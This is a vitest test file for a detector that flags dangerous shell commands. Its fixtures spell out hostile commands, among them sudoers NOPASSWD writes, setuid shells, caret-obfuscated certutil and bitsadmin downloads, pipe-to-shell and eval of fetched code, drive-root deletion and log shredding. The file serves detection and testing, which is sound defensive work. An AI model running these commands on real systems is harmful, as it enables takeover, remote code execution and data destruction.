import { describe, expect, it } from 'vitest';
import { commandsDetector } from './index.js';

const ctx = { present: new Set<string>(), view: 'original' };
const detect = (text: string) => commandsDetector.detect(text, ctx);
const rules = (text: string) => [...new Set(detect(text).map((f) => f.rule))].sort();
const fence = (lang: string, body: string) => `Run this:\n\n\`\`\`${lang}\n${body}\n\`\`\`\n`;

describe('privilege escalation', () => {
  it('reports sudoers writes, NOPASSWD: ALL as critical', () => {
    const [all] = detect(fence('bash', 'echo "ci-runner ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers.d/ci'));
    expect(all).toMatchObject({ rule: 'commands.privilege-escalation.sudoers', severity: 'critical', attack: 'T1548.003' });
    const [narrow] = detect("echo 'jenkins ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' > /etc/sudoers.d/jenkins");
    expect(narrow).toMatchObject({ rule: 'commands.privilege-escalation.sudoers', severity: 'medium' });
    expect(rules('cat /etc/sudoers.d/ci && sudo visudo -c')).toEqual([]);
  });

  it('reports the setuid bit on shells, interpreters and temp files, not on shared directories', () => {
    expect(rules('sudo chmod a+s /usr/bin/find')).toEqual(['commands.privilege-escalation.setuid-shell']);
    expect(rules('install -m 4755 /bin/dash /var/tmp/.d')).toEqual(['commands.privilege-escalation.setuid-shell']);
    expect(rules('chmod 6755 /dev/shm/x')).toEqual(['commands.privilege-escalation.setuid-shell']);
    expect(detect('chmod g+s /bin/zsh')[0]).toMatchObject({ severity: 'medium' });
    expect(rules('sudo chmod 4755 /usr/bin/sudo')).toEqual([]);
    expect(rules('chmod -R g+s /srv/git/repos')).toEqual([]);
    expect(rules('chmod 2775 /tmp/shared-build')).toEqual([]);
  });
});

describe('obfuscated command names and arguments', () => {
  it('resolves concatenated variables into a command and $SHELL/$0 into a shell', () => {
    expect(rules(fence('bash', 'x=wg; y=et; $x$y -qO- http://198.51.100.22/s | $SHELL'))).toEqual(['commands.download-exec.pipe-to-shell']);
    expect(rules('curl -fsSL https://get.example-sync.net/i | ${SHELL}')).toEqual(['commands.download-exec.pipe-to-shell']);
    expect(rules('echo "$SHELL" && echo $0')).toEqual([]);
  });

  it('reads cmd carets out of arguments as well as names', () => {
    expect(rules(fence('cmd', 'certutil -u^r^l^c^a^c^h^e -f http://198.51.100.9/p.exe %TEMP%\\p.exe'))).toEqual(['commands.lolbin.certutil']);
    expect(rules(fence('bat', 'bits^admin /tr^ansfer j /download http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe'))).toEqual(['commands.lolbin.bitsadmin']);
  });
});

describe('PowerShell removal of a drive root', () => {
  it('reads C:\\ as a path (no shell escape) in any parameter order', () => {
    expect(rules(fence('powershell', 'Remove-Item -LiteralPath "D:\\" -Force -Recurse'))).toEqual(['commands.destructive.rm-root']);
    expect(rules('Remove-Item C:\\ -Recurse -Force -ErrorAction SilentlyContinue')).toEqual(['commands.destructive.rm-root']);
    expect(rules('Remove-Item -Path C:\\Users\\Public\\Windows -Recurse')).toEqual([]);
    expect(rules(fence('powershell', 'Remove-Item -Path C:\\temp\\build -Recurse -Force'))).toEqual([]);
  });
});

describe('code that runs code from the network', () => {
  it('finds exec/eval of a fetch, inline or through a variable', () => {
    expect(rules(`python -c "import requests;exec(requests.get('https://198.51.100.4/a.py').text)"`)).toEqual(['commands.download-exec.code-eval']);
    expect(rules(fence('ruby', "require 'open-uri'\npayload = URI.open('http://203.0.113.50/r.rb').read\neval(payload)"))).toEqual(['commands.download-exec.code-eval']);
    expect(rules(fence('javascript', "const src = await (await fetch('https://cdn.example-lib.net/x.js')).text();\neval(src);"))).toEqual(['commands.download-exec.code-eval']);
  });

  it('leaves fetches whose result is only parsed or printed', () => {
    expect(rules(fence('python', "import json, urllib.request\nbody = urllib.request.urlopen('https://api.example.com').read()\ndata = json.loads(body)\nprint(eval('2 ** 8'))"))).toEqual([]);
    expect(rules(fence('javascript', "const r = await fetch('https://api.example.com/v1');\nconsole.log(await r.json());"))).toEqual([]);
  });
});

describe('log retention is not log clearing', () => {
  it('skips age- or rotation-filtered deletes and lowers whole application log directories', () => {
    expect(rules('find /var/log -type f -name "*.log.[0-9]" -delete')).toEqual([]);
    expect(rules('sudo find /var/log/nginx -mtime +14 -exec rm {} \\;')).toEqual([]);
    expect(rules('find /var/log/app -mmin +1440 -delete')).toEqual([]);
    expect(detect('find /var/log/app -type f -delete')[0]).toMatchObject({ rule: 'commands.defense-evasion.log-clear', severity: 'medium' });
    expect(detect('find /var/log/ -type f -exec shred -u {} \\;')[0]).toMatchObject({ rule: 'commands.defense-evasion.log-clear', severity: 'high' });
  });
});

describe('download, inspect, then run', () => {
  it('reports saved-then-run at low severity when a viewer or a signature check comes between', () => {
    const text = fence('bash', 'wget -O setup.sh https://dl.example-app.io/setup.sh\nvim setup.sh\nsudo bash setup.sh');
    const [f] = detect(text);
    expect(f).toMatchObject({ rule: 'commands.download-exec.saved-then-run', severity: 'low' });
    expect(f!.explanation!.some((s) => s.reason.includes('inspected (vim)'))).toBe(true);
    const verified = fence('bash', 'curl -fsSLO https://dl.example-app.io/agent.run\ncurl -fsSLO https://dl.example-app.io/agent.run.asc\ngpg --verify agent.run.asc agent.run\nsh ./agent.run');
    expect(detect(verified)[0]).toMatchObject({ severity: 'low' });
  });

  it('keeps the usual severity when nothing inspects the file, or a different file is read', () => {
    expect(detect(fence('bash', 'curl -o i.sh https://dl.example-app.io/i.sh\nbash i.sh'))[0]).toMatchObject({ severity: 'high' });
    expect(detect(fence('bash', 'curl -o i.sh https://dl.example-app.io/i.sh\nless README.md\nbash i.sh'))[0]).toMatchObject({ severity: 'high' });
  });
});
